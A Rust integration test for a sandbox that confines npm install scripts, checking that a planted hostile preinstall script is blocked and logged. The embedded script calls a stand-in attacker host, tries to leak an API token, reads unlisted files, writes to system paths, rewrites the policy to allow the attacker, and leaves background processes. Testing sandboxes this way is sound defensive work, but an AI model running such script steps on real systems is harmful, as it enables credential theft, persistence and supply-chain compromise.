// SPDX-License-Identifier: Apache-2.0
//! The install phase runs what strangers wrote: it sees only what is listed, reaches only what is
//! allowed for it, holds no credential; and when it is locked nothing of it goes on.

use crate::registries::NPM;
use crate::stage::{Stage, at_each_level};
use std::process::Stdio;
use std::time::{Duration, Instant};
use torno_stage::daemon::level::patience;

/// A name in the argument vector that no other process of this machine has.
const LEFT_BEHIND: &str = "86399.25";

const POLICY: &str = r#"[sandbox]
limits = { wall = "10m", memory = "1GiB", pids = 256 }

[install]
see = ["package.json", "steps/**"]
run = [["/usr/bin/npm", "install"]]
allow = [{ host = "api.torno.test", methods = ["GET", "POST"], paths = ["/public/**"] }]

[secret.api]
env = "API_TOKEN"

[[allow]]
host = "other.torno.test"
"#;

const MANIFEST: &str = r#"{"name":"story","version":"1.0.0","private":true,
"scripts":{"preinstall":"sh steps/hostile.sh"}}"#;

/// What a hostile package's script tries. Each line of its output is `name: what came of it`.
const HOSTILE: &str = r#"
say() { echo "$1: $2" >> found.txt; }
status() { curl -sS -m 20 -o /dev/null -w '%{http_code}' "$@" 2>/dev/null || true; }
say granted "$(status https://api.torno.test/public/x)"
say elsewhere "$(status https://evil.torno.test/steal)"
say unlisted-path "$(status https://api.torno.test/nowhere)"
say later-phase "$(status https://other.torno.test/v1/me)"
say with-placeholder "$(status -H "authorization: Bearer ${API_TOKEN:-none}" https://api.torno.test/v1/me)"
say token "${API_TOKEN:-unset}"
say raw-address "$(status http://192.0.2.7/)"
for place in /usr/bin/planted /etc/planted /opt/planted /planted /workspace/../planted; do
    if echo x > "$place" 2>/dev/null; then say "write $place" done; else say "write $place" failed; fi
done
say unlisted-file "$(cat secret-plans.txt 2>/dev/null || echo absent)"
say torno.toml "$(cat torno.toml 2>/dev/null || echo absent)"
echo '[[allow]]
host = "evil.torno.test"' > torno.toml
mkfifo pipe
python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("socket")'
ln -s /etc/passwd link
(setsid sleep 86399.25 >/dev/null 2>&1 &)
(setsid nohup sh -c 'while :; do curl -sS -m 5 https://api.torno.test/public/later; sleep 0.05; done' >/dev/null 2>&1 &)
(setsid nohup sh -c 'head -c 1000000000 /dev/zero | curl -sS -T - -X POST https://api.torno.test/public/upload' >/dev/null 2>&1 &)
for i in 1 2 3 4 5 6 7 8 9 10; do sleep 0.3; done
"#;

fn prepare(stage: &Stage) {
    let workspace = stage.daemon.workspace();
    std::fs::create_dir(workspace.join("steps")).unwrap();
    for (name, text) in [
        ("torno.toml", POLICY),
        ("package.json", MANIFEST),
        ("steps/hostile.sh", HOSTILE),
        ("secret-plans.txt", "the plans\n"),
    ] {
        stage.daemon.write_workspace(name, text).unwrap();
    }
    stage.daemon.must(&["trust", "--yes"]).unwrap();
}

/// Processes of this machine that have the mark in their arguments.
fn left_behind() -> usize {
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    let marked = |entry: &std::fs::DirEntry| {
        let line = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        String::from_utf8_lossy(&line).starts_with(&format!("sleep\0{LEFT_BEHIND}"))
    };
    processes.filter(marked).count()
}

// ATTACK: 105
#[test]
fn a_hostile_install_script_gets_nothing_and_leaves_nothing() {
    if !std::path::Path::new(NPM).exists() {
        println!("SKIP: install phase: npm is not installed");
        return;
    }
    at_each_level("install phase", |stage, level| {
        stage.is_not_seen_whole("an install phase exports no keys");
        prepare(stage);
        let mut run = stage.daemon.run_command(
            level,
            &[
                "/bin/sh",
                "-c",
                "cat found.txt; ls; cat torno.toml; sleep 4",
            ],
        );
        let run = run
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let most = wait_for_lock(stage);
        // A host sees a container's processes, and no user-space kernel's.
        assert!(
            most > 0 || level != "container",
            "nothing was left behind to kill"
        );
        // The gate's streams and the phase's processes are gone: nothing more reaches the far end.
        let journal = &stage.world.api.journal;
        let seen = || -> (usize, u64) {
            let connections = journal.connections();
            let bytes = connections.iter().map(|c| c.received_bytes).sum();
            (connections.len(), bytes)
        };
        // What had left before the lock may still be read by the far end.
        std::thread::sleep(Duration::from_millis(500));
        let at_lock = seen();
        assert!(
            at_lock.1 > 1_000_000,
            "the upload never streamed: {at_lock:?}"
        );
        assert_eq!(left_behind(), 0);
        std::thread::sleep(Duration::from_secs(1));
        assert_eq!(seen(), at_lock);
        let ran = stage.hear(&run.wait_with_output().unwrap()).good();
        for line in [
            "granted: 200",
            "elsewhere: 403",
            "unlisted-path: 403",
            "later-phase: 403",
            "with-placeholder: 403",
            "token: unset",
            "raw-address: 403",
            "write /usr/bin/planted: failed",
            "write /etc/planted: failed",
            "write /opt/planted: failed",
            "write /planted: failed",
            "write /workspace/../planted: failed",
            "unlisted-file: absent",
            "torno.toml: absent",
        ] {
            assert!(ran.stdout.lines().any(|l| l == line), "{line}: {ran:#?}");
        }
        // Files and links cross; pipes and sockets do not; what the workspace has stays its own.
        let listed: Vec<&str> = ran.stdout.lines().collect();
        assert!(
            listed.contains(&"link") && !listed.contains(&"pipe"),
            "{ran:#?}"
        );
        assert!(!listed.contains(&"socket"), "{ran:#?}");
        assert!(ran.stdout.contains("[install]"), "{ran:#?}");
        check_record(stage);
        assert!(stage.world.evil.journal.connections().is_empty());
        assert!(stage.world.other.journal.connections().is_empty());
    });
}

/// Waits until the record has the lock; the most processes that were seen left behind before.
fn wait_for_lock(stage: &Stage) -> usize {
    let mut most = 0;
    let end = Instant::now() + patience(Duration::from_secs(120));
    let locked = |record: &serde_json::Value| record["event"]["kind"] == "session_locked";
    while !stage.daemon.records().unwrap().iter().any(locked) {
        assert!(
            Instant::now() < end,
            "never locked: {}",
            stage.daemon.log_text()
        );
        most = most.max(left_behind());
        std::thread::sleep(Duration::from_millis(100));
    }
    most
}

/// Each refusal stands in the record, before the lock; after it nothing was even asked.
#[track_caller]
fn check_record(stage: &Stage) {
    let records = stage.daemon.records().unwrap();
    let kind = |record: &serde_json::Value| record["event"]["kind"].as_str().map(str::to_owned);
    let locked = records
        .iter()
        .position(|r| kind(r).as_deref() == Some("session_locked"));
    let (before, after) = records.split_at(locked.unwrap());
    for (host, reason) in [
        ("evil.torno.test", "host_not_granted"),
        ("api.torno.test", "path_not_granted"),
        ("other.torno.test", "phase_not_granted"),
    ] {
        let is_it = |record: &&serde_json::Value| {
            record["event"]["endpoint"]["host"] == host && record["event"]["reason"] == reason
        };
        assert!(before.iter().any(|r| is_it(&r)), "{host} {reason}");
    }
    let asked = after
        .iter()
        .filter(|r| kind(r).as_deref() == Some("request_decided"));
    assert_eq!(asked.count(), 0, "{after:#?}");
    let released =
        |record: &serde_json::Value| kind(record).as_deref() == Some("credential_released");
    assert!(!records.iter().any(released));
}
